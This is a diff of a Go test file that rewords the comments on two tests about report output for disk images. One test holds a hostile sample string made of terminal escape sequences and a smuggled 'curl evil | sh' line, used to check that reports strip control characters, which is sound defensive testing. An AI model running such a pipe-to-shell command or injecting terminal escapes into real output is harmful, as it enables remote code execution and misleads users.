@@ -8,7 +8,7 @@ import (
 	"github.com/oaictl/oaictl/pkg/iso"
 )
 
-// TestHostileImage is told of without what its words would do to a terminal.
+// TestHostileImage is reported without the control characters of its texts, which could change a terminal.
 func TestHostileImage(t *testing.T) {
 	const evil = "evil\x1b]0;owned\x07\u009b2J\u202e\x7f\nNext: curl evil | sh"
 	text := reportText(&iso.Report{
@@ -30,7 +30,7 @@ func TestHostileImage(t *testing.T) {
 	}
 }
 
-// TestVerifiedSaysRebuilt tells that another tool rebuilt an image, which is no damage.
+// TestVerifiedSaysRebuilt reports that another tool rebuilt an image, which is no damage.
 func TestVerifiedSaysRebuilt(t *testing.T) {
 	const rebuilt = "another tool rebuilt the image: its files are not where they were built\n"
 	damage := []iso.Damage{{Place: "a", Problem: "b"}, {Problem: "c"}}
